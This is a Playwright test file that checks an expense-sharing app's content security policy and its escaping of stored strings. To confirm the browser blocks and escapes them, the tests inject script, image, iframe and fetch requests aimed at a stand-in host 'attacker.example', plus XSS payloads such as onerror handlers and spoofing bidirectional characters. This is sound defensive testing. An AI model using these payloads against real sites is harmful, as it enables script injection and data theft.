/** The content security policy, as a browser enforces it. */
import { groupExpensesPath } from '@pg/contract/stored';
import type { Page } from '@playwright/test';
import { database } from '../support/database.ts';
import { seeLive } from '../support/e2e/app.ts';
import { expect, test } from '../support/e2e/fixtures.ts';
import { click, openTab } from '../support/e2e/ui.ts';
import { buildGroup, buildPerson } from '../support/people.ts';
import { today } from '../support/time.ts';

declare global {
  interface Window {
    violations: string[];
    owned?: boolean;
  }
}

/** Records the policy violations of every page that is opened from now on. */
async function noteViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      window.violations.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
}
const violations = (page: Page): Promise<string[]> => page.evaluate(() => window.violations);

test('no screen violates the policy, and the browser blocks injected scripts, images and requests', async ({
  member,
}) => {
  const asha = await member('Asha Rao');
  const { page } = asha;
  const ravi = await buildPerson('Ravi Shah');
  await asha.api.can('setMonthlyLimit', { limit: 1000 });
  const code = await buildGroup([asha.api, ravi]);
  await asha.api.can('addExpense', { amount: 40, paymentDate: today().date, tags: ['chai'], groupCodes: [code] });
  await asha.api.can('giveOrTake', { amount: 10, name: 'Meera', date: today().date, type: 'GIVE' });
  await noteViolations(page);

  for (const [address, heading] of [
    ['/', undefined],
    ['/login', 'Welcome Back'],
    ['/signup', 'Create Account'],
    ['/give-take-dashboard', 'Give and Take'],
    ['/no-such-page', undefined],
  ] as const) {
    await page.goto(address);
    await expect(page.getByRole('main')).toBeVisible();
    if (heading) await expect(page.getByRole('heading', { name: heading }).first()).toBeVisible();
    expect(await violations(page), address).toEqual([]);
  }
  await page.goto('/dashboard');
  await seeLive(page);
  await openTab(page, 'Members');
  await openTab(page, 'Previous Months');
  await click(page, 'Add Expense');
  await expect(page.getByRole('dialog')).toBeVisible();
  expect(await violations(page)).toEqual([]);

  asha.mayLog(/Content Security Policy/);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.owned = true';
    const image = new Image();
    image.src = 'https://attacker.example/pixel.png';
    const foreign = document.createElement('script');
    foreign.src = 'https://attacker.example/own.js';
    const frame = document.createElement('iframe');
    frame.src = 'https://attacker.example/';
    const markup = document.createElement('div');
    markup.innerHTML = '<img src="/nothing.png" onerror="window.owned = true">';
    document.body.append(script, image, foreign, frame, markup);
    fetch('https://attacker.example/collect').catch(() => undefined);
  });
  await expect
    .poll(async () => new Set((await violations(page)).map((each) => each.split('/').slice(0, 3).join('/'))))
    .toEqual(
      new Set([
        'connect-src https://attacker.example',
        'frame-src https://attacker.example',
        'img-src https://attacker.example',
        'script-src-attr inline',
        'script-src-elem https://attacker.example',
        'script-src-elem inline',
      ]),
    );
  expect(await page.evaluate(() => window.owned)).toBeUndefined();
});

test('markup, bidirectional marks and zero-width characters in stored strings appear as text', async ({ member }) => {
  const asha = await member('<script>owned=1</script>');
  const { page } = asha;
  const groupName = '<img src=x onerror=owned=1>A&amp;B';
  const tag = '<i>क्\u200dष</i>';
  await asha.api.can('setMonthlyLimit', { limit: 1000 });
  const code = await buildGroup([asha.api], groupName);
  const { expense } = await asha.api.can('addExpense', {
    amount: 40,
    paymentDate: today().date,
    tags: [tag],
    groupCodes: [code],
  });
  // The API now removes such characters, but older documents may contain them.
  const turned = '<b>rent</b> \u202e\u2066paid\u2069 \u200f7000\u200b';
  await database.doc(`${groupExpensesPath(code)}/${expense.id}`).update({ description: turned });

  await page.goto('/dashboard');
  await seeLive(page);
  const shown = () => page.evaluate(() => document.body.textContent);
  for (const text of [groupName, tag, turned, '<script>owned=1</script>']) await expect.poll(shown).toContain(text);
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
  await expect(page.locator('main img, main script, main b, main i')).toHaveCount(0);
});
